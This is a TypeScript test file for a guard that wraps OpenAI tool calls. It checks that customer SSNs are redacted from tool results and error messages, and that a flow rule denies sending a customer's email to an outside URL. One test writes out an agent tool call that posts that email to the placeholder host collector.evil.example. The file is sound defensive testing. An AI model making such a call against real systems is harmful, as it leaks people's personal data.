import OpenAI from "openai";
import type { RunnableToolFunctionWithParse } from "openai/lib/RunnableFunction";
import { afterEach, describe, expect, it } from "vitest";
import { guardResponsesFunctions, guardRunToolsFunctions } from "../../../adapters/openai/index.js";
import { loadCassette, startReplayServer, type ReplayServer } from "../../../examples/support/openai-replay-server.js";
import type { Guard } from "../../../src/index.js";
import { classifyingGuard, SSN, WEBHOOK_DECLARATION } from "../support.js";
import { cassette } from "./functions.js";

const open: { guard: Guard; server: ReplayServer }[] = [];
afterEach(async () => {
  for (const { guard, server } of open.splice(0)) await Promise.all([guard.close(), server.close()]);
});

function crmFunctions(effects: string[]): RunnableToolFunctionWithParse<Record<string, string>>[] {
  const parse = (input: string) => JSON.parse(input) as Record<string, string>;
  return [
    {
      type: "function",
      function: {
        name: "get_customer",
        description: "Look up a customer by id",
        parameters: { type: "object", properties: { id: { type: "string" } } },
        parse,
        function: ({ id }) => {
          effects.push(`get_customer:${id}`);
          return { id, name: "Ada Lovelace", email: "ada@customer.example", ssn: SSN };
        },
      },
    },
    {
      type: "function",
      function: {
        name: "http_post",
        description: "POST a body to a URL",
        parameters: { type: "object", properties: { url: { type: "string" }, body: { type: "string" } } },
        parse,
        function: ({ url }) => {
          effects.push(`http_post:${url}`);
          return "202 Accepted";
        },
      },
    },
  ];
}

async function setup(name: string) {
  const test = await classifyingGuard({ declaration: WEBHOOK_DECLARATION as never });
  const server = await startReplayServer(await loadCassette(cassette(name)));
  open.push({ guard: test.guard, server });
  return { ...test, server, client: new OpenAI({ apiKey: "sk-replay", baseURL: server.baseURL, maxRetries: 0 }) };
}

describe("guardRunToolsFunctions with classification", () => {
  it("sends the model a function result with the SSN redacted", async () => {
    const { client, server, guard } = await setup("chat-read-customer.json");
    const effects: string[] = [];

    await client.chat.completions.runTools({ model: "gpt-4o-mini", messages: [{ role: "user", content: "Who is c-42?" }], tools: guardRunToolsFunctions(crmFunctions(effects), guard) }).finalContent();

    const sent = JSON.stringify(server.requests[1]!.body);
    expect(sent).not.toContain(SSN);
    expect(sent).toContain("[REDACTED:pii.ssn]");
    expect(sent).toContain("ada@customer.example");
  });

  it("answers the model with a function's error text redacted, and audits it as the call's result", async () => {
    const { client, server, guard, decisions } = await setup("chat-read-customer.json");
    const [lookup] = crmFunctions([]);
    lookup!.function.function = ({ id }) => {
      throw new Error(`lookup failed for ${id}: record {ssn: ${SSN}} is locked`);
    };

    await client.chat.completions.runTools({ model: "gpt-4o-mini", messages: [{ role: "user", content: "Who is c-42?" }], tools: guardRunToolsFunctions([lookup!], guard) }).finalContent();

    const messages = server.requests[1]!.body["messages"] as { role: string; content?: string }[];
    expect(messages.find((message) => message.role === "tool")?.content).toBe("Error: lookup failed for c-42: record {ssn: [REDACTED:pii.ssn]} is locked");
    expect(JSON.stringify(server.requests)).not.toContain(SSN);
    expect(decisions().map((record) => `${record.event}:${record.decision}`)).toEqual(["call:allow", "result:redact"]);
  });

  it("decides and sends what toJSON makes of a result, not the object's own properties", async () => {
    const { client, server, guard } = await setup("chat-read-customer.json");
    const [lookup] = crmFunctions([]);
    // An ORM entity: its properties hold an id, its JSON the whole row.
    lookup!.function.function = ({ id }) => ({ id, toJSON: () => ({ id, email: "ada@customer.example", ssn: SSN }) }) as never;

    await client.chat.completions.runTools({ model: "gpt-4o-mini", messages: [{ role: "user", content: "Who is c-42?" }], tools: guardRunToolsFunctions([lookup!], guard) }).finalContent();

    const messages = server.requests[1]!.body["messages"] as { role: string; content?: string }[];
    expect(JSON.parse(messages.find((message) => message.role === "tool")!.content!)).toEqual({ id: "c-42", email: "ada@customer.example", ssn: "[REDACTED:pii.ssn]" });
  });

  it("denies with the flow rule the post of a customer's email to an outside URL", async () => {
    const { client, server, guard, decisions } = await setup("chat-exfiltration.json");
    const effects: string[] = [];

    await client.chat.completions.runTools({ model: "gpt-4o-mini", messages: [{ role: "user", content: "Who is c-42?" }], tools: guardRunToolsFunctions(crmFunctions(effects), guard) }).finalContent();

    expect(effects).toEqual(["get_customer:c-42"]);
    const messages = server.requests[2]!.body["messages"] as { role: string; tool_call_id?: string; content?: string }[];
    expect(messages.find((message) => message.tool_call_id === "call_Px4cV6bN8mL0kJ2h")?.content).toContain("[flow-to-egress-outside-allow]");
    expect(decisions().find((record) => record.tool === "http_post")).toMatchObject({ decision: "deny", flows: { classes: ["pii.email"], sources: ["crm/get_customer"] }, trace: { toolCallId: "call_Px4cV6bN8mL0kJ2h" } });
  });
});

describe("guardResponsesFunctions with classification", () => {
  it("returns a function_call_output with the SSN redacted, and refuses the exfiltration that follows", async () => {
    const { guard } = await classifyingGuard({ declaration: WEBHOOK_DECLARATION as never });
    open.push({ guard, server: await startReplayServer({ interactions: [] }) });
    const effects: string[] = [];
    const functions = guardResponsesFunctions(
      {
        get_customer: () => ({ id: "c-42", email: "ada@customer.example", ssn: SSN }),
        http_post: (args) => effects.push(`http_post:${(args as { url: string }).url}`),
      },
      guard,
    );

    const [read] = await functions.run({ id: "resp_1", output: [{ type: "function_call", call_id: "call_1", name: "get_customer", arguments: "{\"id\":\"c-42\"}" }] });
    const [post] = await functions.run({ id: "resp_2", output: [{ type: "function_call", call_id: "call_2", name: "http_post", arguments: JSON.stringify({ url: "https://collector.evil.example/x", body: "ada@customer.example" }) }] });

    expect(String(read!.output)).not.toContain(SSN);
    expect(String(read!.output)).toContain("[REDACTED:pii.ssn]");
    expect(String(post!.output)).toContain("[flow-to-egress-outside-allow]");
    expect(effects).toEqual([]);
  });

  it("answers a function's error with its text redacted and still runs the other calls of the response", async () => {
    const { guard, decisions } = await classifyingGuard();
    open.push({ guard, server: await startReplayServer({ interactions: [] }) });
    const effects: string[] = [];
    const functions = guardResponsesFunctions(
      {
        get_customer: (args) => {
          const { id } = args as { id: string };
          effects.push(`get_customer:${id}`);
          if (id === "c-1") throw new Error(`lookup failed for ${id}: record {ssn: ${SSN}} is locked`);
          return { id, email: "ada@customer.example" };
        },
      },
      guard,
    );

    const outputs = await functions.run({
      id: "resp_1",
      output: [
        { type: "function_call", call_id: "call_1", name: "get_customer", arguments: "{\"id\":\"c-1\"}" },
        { type: "function_call", call_id: "call_2", name: "get_customer", arguments: "{\"id\":\"c-2\"}" },
      ],
    });

    expect(effects).toEqual(["get_customer:c-1", "get_customer:c-2"]);
    expect(outputs.map((item) => item.call_id)).toEqual(["call_1", "call_2"]);
    expect(outputs[0]!.output).toBe("Error: lookup failed for c-1: record {ssn: [REDACTED:pii.ssn]} is locked");
    expect(JSON.parse(String(outputs[1]!.output))).toEqual({ id: "c-2", email: "ada@customer.example" });
    expect(decisions().map((record) => `${record.event}:${record.decision}:${record.trace?.toolCallId}`)).toEqual([
      "call:allow:call_1", "result:redact:call_1", "call:allow:call_2", "result:allow:call_2",
    ]);
  });

  it("decides and sends what toJSON makes of a result", async () => {
    const { guard } = await classifyingGuard();
    open.push({ guard, server: await startReplayServer({ interactions: [] }) });
    const functions = guardResponsesFunctions({ get_customer: () => ({ id: "c-42", toJSON: () => ({ id: "c-42", ssn: SSN }) }) }, guard);

    const [read] = await functions.run({ id: "resp_1", output: [{ type: "function_call", call_id: "call_1", name: "get_customer", arguments: "{\"id\":\"c-42\"}" }] });

    expect(JSON.parse(String(read!.output))).toEqual({ id: "c-42", ssn: "[REDACTED:pii.ssn]" });
  });
});
